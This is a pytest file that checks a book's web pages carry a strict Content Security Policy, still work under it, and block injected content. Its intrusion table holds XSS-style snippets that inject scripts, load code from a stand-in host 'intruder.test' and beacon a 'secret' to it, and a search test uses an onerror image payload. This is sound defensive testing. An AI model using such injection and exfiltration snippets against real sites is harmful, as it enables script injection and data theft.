"""The content security policy of the pages: it is strict, pages work under it, and it bites."""

import re
from urllib.parse import quote

import pytest
from test_page_files import Elements

from built_book import DESK, EVERYWHERE, PAGES

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
# Listens before any script of the page runs.
LISTEN = """
globalThis.violations = [];
addEventListener("securitypolicyviolation", (event) =>
  violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`));
"""


# ---- the policy as text --------------------------------------------------------------------------


def laxness(page: str) -> list[str]:
    """What the policy of a page allows, or where it stands, that it should not."""
    found = POLICY.findall(page)
    if len(found) != 1:
        return [f"{len(found)} policies"]
    parts = (part.split() for part in found[0].split(";") if part.strip())
    rules = {name: sources for name, *sources in parts}
    wrong = [
        f"{name} is {' '.join(rules.get(name, ['missing']))}"
        for name, wanted in (
            ("default-src", ["'none'"]),
            ("script-src", ["'self'"]),
            ("style-src-elem", ["'self'"]),
            ("object-src", ["'none'"]),
            ("base-uri", ["'none'"]),
            ("form-action", ["'self'"]),
        )
        if rules.get(name) != wanted
    ]
    for name, sources in rules.items():
        allowed = {"'none'", "'self'"}
        allowed |= {"data:"} if name == "img-src" else set()
        allowed |= {"'unsafe-inline'"} if name == "style-src" else set()  # attributes of formulas
        wrong += [f"{name} allows {source}" for source in sources if source not in allowed]
    before = page[: POLICY.search(page).start()]
    if re.search(r"<(script|link|style|img|base|body)\b", before):
        wrong.append("something is loaded before the policy")
    return wrong


def inline_code(page: str) -> list[str]:
    """Scripts, sheets, handlers and addresses in a page that carry code themselves."""
    found = []
    for tag, attributes in Elements(page).all:
        if tag == "script" and "src" not in attributes:
            if attributes.get("type") != "application/json":
                found.append("inline script")
        elif tag in ("style", "iframe", "object", "embed", "base"):
            found.append(tag)
        found += [name for name in attributes if name.startswith("on")]
        for name in ("href", "src", "action", "formaction"):
            address = (attributes.get(name) or "").strip().lower()
            if address.startswith(("javascript:", "data:text", "vbscript:", "http:")):
                found.append(f"{name}={address[:30]}")
    return found


@pytest.mark.parametrize("name", ["index.html", *EVERYWHERE])
def test_every_page_forbids_all_that_is_not_the_books_own(html, name):
    page = (html / name).read_text(encoding="utf-8")
    assert laxness(page) == []
    assert inline_code(page) == []


def test_no_page_is_without_a_policy(html):
    """Also those that are in no table of contents, such as an index that somebody switches on."""
    pages = {path.relative_to(html).as_posix(): path for path in html.rglob("*.html")}
    assert {"index.html", *EVERYWHERE} <= set(pages)
    texts = {name: path.read_text(encoding="utf-8") for name, path in pages.items()}
    assert [name for name, text in texts.items() if len(POLICY.findall(text)) != 1] == []


GOOD = (
    "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; style-src-elem "
    "'self'; object-src 'none'; form-action 'self'; base-uri 'none'"
)


def under(policy: str) -> str:
    return f'<head><meta http-equiv="Content-Security-Policy" content="{policy}"></head>'


@pytest.mark.parametrize(
    ("page", "message"),
    [
        (under(GOOD.replace("'none'", "'self'", 1)), "default-src is 'self'"),
        (
            under(GOOD.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'")),
            "unsafe-eval",
        ),
        (under(GOOD.replace("script-src 'self'", "script-src https:")), "script-src allows https:"),
        (under(GOOD.replace("base-uri 'none'", "")), "base-uri is missing"),
        (under(GOOD + "; connect-src *"), "connect-src allows *"),
        (under(GOOD + "; img-src https://example.org"), "img-src allows https://example.org"),
        ("<head></head>", "0 policies"),
        ("<script src='x.js'></script>" + under(GOOD), "before the policy"),
    ],
)
def test_a_lax_policy_is_seen(page, message):
    assert laxness(under(GOOD)) == []
    assert any(message in fault for fault in laxness(page))


@pytest.mark.parametrize(
    "code",
    [
        "<script>x()</script>",
        "<style>b {}</style>",
        "<p onclick='x()'>",
        "<a href='JavaScript:x()'>",
        "<iframe src='x.html'>",
        "<img src='http://example.org/x.png'>",
    ],
)
def test_code_in_a_page_is_seen(code):
    assert inline_code('<script type="application/json">{}</script><script src="x.js">') == []
    assert inline_code(code)


# ---- pages work under it -------------------------------------------------------------------------


@pytest.fixture
def guarded(browser):
    """Open a page that notes every violation from its first moment on; see that there is none."""
    contexts = []

    def opened(url, **how):
        context = browser.new_context(viewport=DESK, **how)
        contexts.append(context)
        context.add_init_script(LISTEN)
        page = context.new_page()
        page.told, page.asked = [], []
        page.on("request", lambda request: page.asked.append(request.url))
        page.on("pageerror", lambda error: page.told.append(str(error)))
        page.on(
            "console",
            lambda said: said.type in ("error", "warning") and page.told.append(said.text),
        )
        page.goto(url, wait_until="load")
        return page

    yield opened
    for context in contexts:
        context.close()


def nothing_refused(page, site) -> None:
    assert page.evaluate("violations") == []
    assert page.told == []
    assert [url for url in page.asked if not url.startswith((site, "data:"))] == []


@pytest.mark.browser
@pytest.mark.parametrize("name", EVERYWHERE)
def test_a_page_is_used_without_a_violation(guarded, site, html, name):
    """Folds, shade, and every control of every figure and table are used."""
    page = guarded(site + name)
    figures = (html / name).read_text(encoding="utf-8").count('class="interactive"')
    assert page.locator("figure.interactive .stage:has(svg, canvas)").count() == figures
    page.evaluate("document.querySelectorAll('details').forEach((fold) => (fold.open = true))")
    page.evaluate("scrollTo(0, document.body.scrollHeight)")
    page.click(".shade")
    page.evaluate(USE_CONTROLS)
    nothing_refused(page, site)


# Values change as a reader changes them; figures listen to these events.
USE_CONTROLS = """async () => {
  const told = (control) => {
    for (const kind of ["input", "change"]) control.dispatchEvent(new Event(kind, {bubbles: true}));
    return new Promise(requestAnimationFrame);
  };
  const main = document.querySelector("main");
  for (const slider of main.querySelectorAll("input[type=range]")) {
    for (const value of [slider.max, slider.min]) { slider.value = value; await told(slider); }
  }
  for (const choice of main.querySelectorAll("select")) {
    choice.selectedIndex = choice.options.length - 1; await told(choice);
  }
  for (const button of main.querySelectorAll(".stage button, input[type=radio]")) {
    button.click(); await new Promise(requestAnimationFrame);
  }
}"""


@pytest.mark.browser
def test_search_works_under_the_policy(guarded, site):
    page = guarded(site + PAGES[0])
    page.fill("#find", "projection")
    page.press("#find", "Enter")
    page.wait_for_selector(".result")
    nothing_refused(page, site)


@pytest.mark.browser
def test_what_is_searched_for_stays_text(guarded, site):
    markup = "<img src=x onerror=ran=1><b>projection</b>"
    page = guarded(f"{site}search.html?q={quote(markup)}")
    assert markup in page.locator(".found").inner_text()
    assert page.locator(".found img, .found b, .results img, .results b").count() == 0
    nothing_refused(page, site)


# ---- it bites ------------------------------------------------------------------------------------

INTRUDER = "http://intruder.test/"
INTRUSIONS = {
    "a script from elsewhere": (
        "const s = document.createElement('script'); s.src = 'INTRUDERx.js';"
        " document.head.append(s)",
        "script-src-elem",
    ),
    "an inline script": (
        "const s = document.createElement('script'); s.textContent = 'ran = 1';"
        " document.head.append(s)",
        "script-src-elem",
    ),
    "a handler in an attribute": (
        "document.body.setAttribute('onclick', 'ran = 1'); document.body.click()",
        "script-src-attr",
    ),
    "text that becomes code": ("setTimeout('ran = 1')", "script-src"),
    "a script in an address": (
        "const s = document.createElement('script'); s.src = 'data:text/javascript,ran=1';"
        " document.head.append(s)",
        "script-src-elem",
    ),
    "a sheet in the page": (
        "const s = document.createElement('style'); s.textContent = '* {color: red}';"
        " document.head.append(s)",
        "style-src-elem",
    ),
    "a sheet from elsewhere": (
        "const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = 'INTRUDERx.css';"
        " document.head.append(s)",
        "style-src-elem",
    ),
    "a picture from elsewhere": ("new Image().src = 'INTRUDERx.png'", "img-src"),
    "a request": ("fetch('INTRUDERx').catch(() => {})", "connect-src"),
    "a beacon": ("navigator.sendBeacon('INTRUDERx', 'secret')", "connect-src"),
    "a frame": (
        "const f = document.createElement('iframe'); f.src = 'INTRUDER'; document.body.append(f)",
        "frame-src",
    ),
    "a plugin": (
        "const o = document.createElement('object'); o.data = 'INTRUDERx.swf';"
        " document.body.append(o)",
        "object-src",
    ),
    "another base for links": (
        "const b = document.createElement('base'); b.href = 'INTRUDER'; document.head.append(b)",
        "base-uri",
    ),
    "a form sent elsewhere": (
        "const f = document.querySelector('form.find'); f.action = 'INTRUDER'; f.submit()",
        "form-action",
    ),
}


@pytest.fixture
def reached(guarded, site):
    """Try an intrusion on a page: the page, and the addresses elsewhere that it reached."""

    def tried(attempt, *, address=PAGES[0], body=None):
        page = guarded("about:blank")
        found = []

        def elsewhere(route):
            found.append(route.request.url)
            route.fulfill(body="ran = 1", content_type="text/javascript")

        page.route(f"{INTRUDER}**", elsewhere)
        if body is not None:
            page.route(f"**/{address}", lambda route: route.fulfill(body=body))
        page.goto(site + address, wait_until="load")
        page.evaluate(f"() => {{ {attempt.replace('INTRUDER', INTRUDER)} }}")
        return page, found

    return tried


def until(page, condition: str) -> None:
    """Wait for a condition; Playwright's own waiting is text that the policy may refuse."""
    for _ in range(200):
        if page.evaluate(condition):
            return
        page.wait_for_timeout(50)
    raise AssertionError(f"never came true: {condition}")


@pytest.mark.browser
@pytest.mark.parametrize("what", INTRUSIONS)
def test_the_policy_refuses(reached, what):
    attempt, directive = INTRUSIONS[what]
    page, found = reached(attempt)
    until(page, "violations.length > 0")
    assert page.evaluate("violations")[0].split()[0] == directive
    assert page.evaluate("globalThis.ran") is None
    assert found == []


@pytest.mark.browser
@pytest.mark.parametrize("what", ["a script from elsewhere", "an inline script"])
def test_without_the_policy_the_same_script_would_run(reached, html, what):
    """It is not the browser that refuses: the same page, its policy taken out, lets them in."""
    body = POLICY.sub("", (html / PAGES[0]).read_text(encoding="utf-8"))
    page, found = reached(INTRUSIONS[what][0], address="bare.html", body=body)
    until(page, "globalThis.ran === 1")
    assert found == ([INTRUDER + "x.js"] if "elsewhere" in what else [])
